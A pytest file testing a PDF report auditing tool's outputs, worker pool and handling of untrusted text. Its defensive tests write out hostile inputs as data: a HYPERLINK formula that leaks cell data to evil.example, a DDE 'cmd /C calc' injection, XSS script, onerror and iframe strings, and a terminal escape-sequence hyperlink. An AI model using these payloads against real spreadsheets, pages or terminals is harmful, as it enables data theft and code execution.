"""`nianbao audit` end to end, the worker pool's limits, and untrusted text in every output."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import SAMPLES, truth_of
from extractor.audit import batch, writer_html, writer_xlsx, writers_csv_json
from extractor.audit.model import FileResult
from extractor.audit.safe import sheet_name
from extractor.cli import main
from schemas.relations import ARITHMETIC_RULES
from schemas.report import Finding, report_from_tables

GOOD = ["word-ruled-heping-2022.pdf", "word-ruled-taiping-2024.pdf"]
WRONG = ["error-requests-row_total.pdf", "error-requests-balance.pdf", "error-requests-new_total.pdf",
         "error-reviews-review_total.pdf"]
OUTPUTS = {"findings.csv", "findings.json", "audit.xlsx", "report.html", "manifest.json"}


def make_folder(root: Path) -> Path:
    folder = root / "in"
    (folder / "sub").mkdir(parents=True)
    for name in GOOD + WRONG:
        shutil.copy(SAMPLES / name, folder / name)
    shutil.copy(SAMPLES / WRONG[0], folder / "sub" / "copy of report.pdf")  # duplicate
    (folder / "notes.pdf").write_text("not a pdf at all\n", encoding="utf-8")  # mis-named
    data = (SAMPLES / WRONG[-1]).read_bytes()
    (folder / "sub" / "truncated.pdf").write_bytes(data[: len(data) // 5])
    (folder / "readme.txt").write_text("ignored: not a report suffix", encoding="utf-8")
    return folder


def audit(folder: Path, out: Path) -> int:
    return main(["audit", str(folder), "--out", str(out), "--workers", "2", "--timeout", "120"])


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    root = tmp_path_factory.mktemp("audit")
    folder = make_folder(root)
    before = sorted(p.name for p in folder.rglob("*"))
    code = audit(folder, root / "out")
    return {"root": root, "folder": folder, "out": root / "out", "code": code, "before": before}


def rows_of(out: Path) -> list[dict]:
    return json.loads((out / "findings.json").read_text(encoding="utf-8"))


def test_every_file_accounted_for(run):
    folder, out = run["folder"], run["out"]
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    status = {Path(f["path"]).relative_to(folder).as_posix(): f for f in manifest["files"]}
    assert set(status) == set(GOOD + WRONG) | {"notes.pdf", "sub/copy of report.pdf", "sub/truncated.pdf"}
    for name in GOOD:
        assert status[name]["status"] == "ok", status[name]
    for name in WRONG:
        assert status[name]["status"] == "findings" and status[name]["errors"] > 0, status[name]
    assert status["notes.pdf"]["status"] == "unreadable" and "PDF" in status["notes.pdf"]["reason"]
    assert status["sub/truncated.pdf"]["status"] == "unreadable" and status["sub/truncated.pdf"]["reason"]
    dup = status["sub/copy of report.pdf"]
    assert dup["duplicate_of"].endswith(WRONG[0]) and dup["status"] == "findings"
    assert dup["sha256"] == status[WRONG[0]]["sha256"] and len(dup["sha256"]) == 64
    assert run["code"] == 2  # unreadable files present
    # the unreadable and duplicate files are rows of the findings list too
    rules = {(Path(r["file"]).name, r["rule"]) for r in rows_of(out)}
    assert {("notes.pdf", "file.unreadable"), ("truncated.pdf", "file.unreadable"),
            ("copy of report.pdf", "file.duplicate")} <= rules
    # nothing written beside the inputs, nothing left over in --out
    assert sorted(p.name for p in folder.rglob("*")) == run["before"]
    assert {p.name for p in out.iterdir()} == OUTPUTS | {"nianbao.duckdb"}  # the store beside the outputs


def test_findings_equal_expected(run):
    rows = rows_of(run["out"])
    for name in WRONG:
        want = {(f["rule"], f["table"], f["row"], f["column"], f["expected"], f["found"])
                for f in truth_of(SAMPLES / name)["expected_findings"] if f["rule"] in ARITHMETIC_RULES}
        got = {(r["rule"], r["table"], r["row"], r["column"], r["expected"], r["found"])
               for r in rows if Path(r["file"]).name == name and r["rule"] in ARITHMETIC_RULES}
        assert got == want, name
        for r in rows:
            if Path(r["file"]).name == name and r["rule"] in ARITHMETIC_RULES:
                assert r["page"] and len(r["box"]) == 4 and r["message"] and r["body"] and r["year"]
    csv_rows = list(csv.DictReader((run["out"] / "findings.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert [r["rule"] for r in csv_rows] == [r["rule"] for r in rows]
    assert list(csv_rows[0]) == ["file", "body", "year", "rule", "severity", "table", "row", "column", "expected",
                                 "found", "page", "box", "message", "message_en"]


def test_xlsx_red_cells_and_comments(run):
    wb = load_workbook(run["out"] / "audit.xlsx")
    summary = wb["汇总"]
    head = [c.value for c in summary[1]]
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref
    by_file = {row[0]: dict(zip(head, row)) for row in summary.iter_rows(min_row=2, values_only=True)}
    assert len(by_file) == len(GOOD) + len(WRONG) + 3
    rows = [r for r in rows_of(run["out"]) if r["rule"] in ARITHMETIC_RULES]
    assert rows
    for r in rows:
        ws = wb[by_file[r["file"]]["工作表"]]
        red = [c for row in ws.iter_rows() for c in row if c.fill.fgColor.rgb == writer_xlsx.RED]
        hits = [c for c in red if c.comment and r["message"] in c.comment.text]
        assert hits, (r["file"], r["rule"], r["row"], r["column"])
        if r["row"]:  # the finding names one cell: that cell holds the value found
            assert any(c.value == r["found"] for c in hits)
    for name in GOOD:  # a report without findings gets no sheet
        assert by_file[str(run["folder"] / name)]["工作表"] is None


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def parse(html: str) -> list:
    p = Tags()
    p.feed(html)
    return p.tags


def test_html_one_image_per_finding(run):
    html = (run["out"] / "report.html").read_text(encoding="utf-8")
    tags = parse(html)
    images = [a for t, a in tags if t == "img"]
    findings = [r for r in rows_of(run["out"]) if not r["rule"].startswith("file.")]
    assert len(images) == len(findings) > 0
    assert all(a["src"].startswith("data:image/png;base64,") for a in images)
    csp = [a["content"] for t, a in tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
    assert csp and "script-src 'none'" in csp[0] and "img-src data:" in csp[0] and "default-src 'none'" in csp[0]
    assert not [t for t, _ in tags if t in ("script", "link", "iframe", "object")]


def test_same_audit_twice_is_identical(run):
    out2 = run["root"] / "out2"
    assert audit(run["folder"], out2) == run["code"]
    for name in ("findings.csv", "findings.json"):
        assert (run["out"] / name).read_bytes() == (out2 / name).read_bytes()
    m1, m2 = (json.loads((d / "manifest.json").read_text(encoding="utf-8")) for d in (run["out"], out2))
    for m in (m1, m2):
        m.pop("timestamps")
        m["options"].pop("out")
    assert m1 == m2


# ------------------------------------------------------------------ the pool: hangs and deaths
def fake_task(path: str, password=None) -> FileResult:
    """A task for the pool tests: hang, die, or answer, by file name."""
    name = os.path.basename(path)
    if "hang" in name:
        time.sleep(600)
    if "die" in name:
        os.kill(os.getpid(), signal.SIGKILL)
    return FileResult(path=path, status="ok")


def test_pool_replaces_hung_and_dead_workers(tmp_path):
    names = ["a-hang.pdf", "b-die.pdf", "c.pdf", "d.pdf", "e-die.pdf", "f.pdf"]
    t0 = time.monotonic()
    results = batch.run([str(tmp_path / n) for n in names], workers=2, timeout=2.0, task="test_audit:fake_task")
    assert time.monotonic() - t0 < 30
    status = {os.path.basename(r.path): (r.status, r.reason) for r in results}
    assert status["a-hang.pdf"][0] == "timeout" and "2 s" in status["a-hang.pdf"][1]
    assert status["b-die.pdf"] == ("crashed", "worker process died (SIGKILL)")
    assert status["e-die.pdf"][0] == "crashed"
    assert all(status[n][0] == "ok" for n in ("c.pdf", "d.pdf", "f.pdf"))
    assert [os.path.basename(r.path) for r in results] == names


# ------------------------------------------------------------------ untrusted text
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")<script>alert(1)</script>'


def evil_result() -> FileResult:
    tables = {"requests": {"granted": {c: 1 for c in ("natural_person", "commercial", "research", "public_interest",
                                                         "legal_service", "other_org")} | {"total": 9}},
              "reviews": {"all": {"review_upheld": 0}}, "active": {"regulations": {"issued": 1}}}
    report = report_from_tables(tables, file="evil.pdf", issuer=EVIL, year=2023)
    odd = report.cell("requests", "granted", "natural_person")
    odd.value, odd.raw, odd.kind = None, "@SUM(1+1)*cmd|' /C calc'!A0", "unreadable"
    bad = report.cell("active", "regulations", "issued")
    bad.value, bad.raw, bad.kind = None, "-2+3<img src=x onerror=alert(2)>", "unreadable"
    finding = Finding(rule="requests.row_total", severity="error", table="requests", row="granted", column="total",
                      expected=6, found=9, message=f"+{EVIL} 与 </p><iframe src=//evil>", message_en="-" + EVIL,
                      cells=[{"table": "requests", "row": "granted", "column": "total", "value": 9, "raw": "9",
                              "page": None, "bbox": None}], file="evil.pdf")
    return FileResult(path='in/"><script>x</script>=evil.pdf', size=1, sha256="0" * 64, status="findings",
                      report=report, findings=[finding], images=[None])


def test_crafted_text_is_inert(tmp_path):
    results = [evil_result()]
    writers_csv_json.write(str(tmp_path), results)
    writer_xlsx.write(str(tmp_path), results)
    writer_html.write(str(tmp_path), results, "test")
    # CSV: no field a spreadsheet would read as a formula
    for row in csv.reader((tmp_path / "findings.csv").read_text(encoding="utf-8-sig").splitlines()):
        for field in row:
            assert not field.startswith(("=", "+", "-", "@")), field
    assert "'=HYPERLINK" in (tmp_path / "findings.csv").read_text(encoding="utf-8-sig")
    # xlsx: no formula cell anywhere; the crafted issuer is text
    wb = load_workbook(tmp_path / "audit.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(("=", "+", "-", "@")), c.value
                    texts.append(c.value)
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    assert any(t.startswith("'@SUM") for t in texts) and any(t.startswith("'-2+3") for t in texts)
    assert all(len(ws.title) <= 31 and not set(ws.title) & set("[]:*?/\\") for ws in wb.worksheets)
    # HTML: the crafted text is shown, never run
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    tags = parse(html)
    assert not [t for t, _ in tags if t in ("script", "iframe")]
    assert not [a for _, attrs in tags for a in attrs if a.startswith("on")]
    assert all(a["src"].startswith("data:") for t, a in tags if t == "img")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_sheet_names_are_legal_and_unique():
    taken = {"汇总"}
    names = [sheet_name(s, taken) for s in ("a/b\\c[d]:e*f?g" * 5, "a/b\\c[d]:e*f?g" * 5, "'quoted'", "", "汇总")]
    assert len(set(names)) == len(names)
    assert all(0 < len(n) <= 31 and not set(n) & set("[]:*?/\\") and not n.startswith("'") for n in names)


def test_undecodable_file_names_reach_every_output(tmp_path):
    from extractor.audit import manifest
    from extractor.audit.safe import cell_text, clean

    name = os.fsdecode(b"in/bad\xff name.pdf")
    assert clean(name) == "in/bad\ufffd name.pdf" and cell_text("=" + name) == "'=in/bad\ufffd name.pdf"
    results = [evil_result()]
    results[0].path = name
    writers_csv_json.write(str(tmp_path), results)
    writer_xlsx.write(str(tmp_path), results)
    writer_html.write(str(tmp_path), results, "test")
    manifest.write(str(tmp_path), results, {"paths": [name]}, "0", {})
    assert "bad\ufffd name.pdf" in (tmp_path / "manifest.json").read_text(encoding="utf-8")
    assert {p.name for p in tmp_path.iterdir()} == OUTPUTS


def test_terminal_takes_names_and_text_literally():
    import io

    from rich.console import Console

    from extractor.audit import terminal

    result = evil_result()
    result.path = "in/a[/x] [bold]b\x1b]8;;http://evil\x07.pdf"
    console = Console(file=io.StringIO(), width=120, force_terminal=False)
    with terminal.BatchProgress(1, console) as progress:
        progress.started(result.path)
        progress.done(result)
    terminal.print_results(console, [result], 1.0, "out")
    text = console.file.getvalue()
    assert "a[/x] [bold]b" in text and "\x1b]8" not in text and "<script>" in text
